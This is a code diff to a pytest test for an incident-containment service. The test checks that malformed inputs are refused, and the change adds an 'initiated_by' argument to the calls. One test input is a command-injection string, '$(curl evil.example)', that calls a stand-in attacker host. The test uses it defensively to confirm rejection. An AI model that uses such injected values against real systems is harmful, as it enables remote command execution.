@@ -213,10 +213,10 @@ def test_bad_input_is_refused_before_anything(stack: StackInfo, deployments: lis
         {"lever": "platform-freeze", "message": "$(curl evil.example)"},
     ):
         with pytest.raises(PrefectHTTPStatusError, match="409"):
-            start(CONTAIN, incident_id=incident(), dry_run=False, **bad)
+            start(CONTAIN, incident_id=incident(), initiated_by="alice", dry_run=False, **bad)
     for bad_run in ({"lever": "brand-disable", "brand_id": "nosuchbrand"},
                     {"lever": "deposit-halt", "brand_id": "beta"}):
-        run = finish(start(CONTAIN, incident_id=incident(), dry_run=False, **bad_run))
+        run = finish(start(CONTAIN, incident_id=incident(), initiated_by="alice", dry_run=False, **bad_run))
         assert run.state is not None and run.state.is_failed()
         assert "BadInputError" in (run.state.message or "") or "brand" in (run.state.message or "")
     assert _levers(stack) == calm
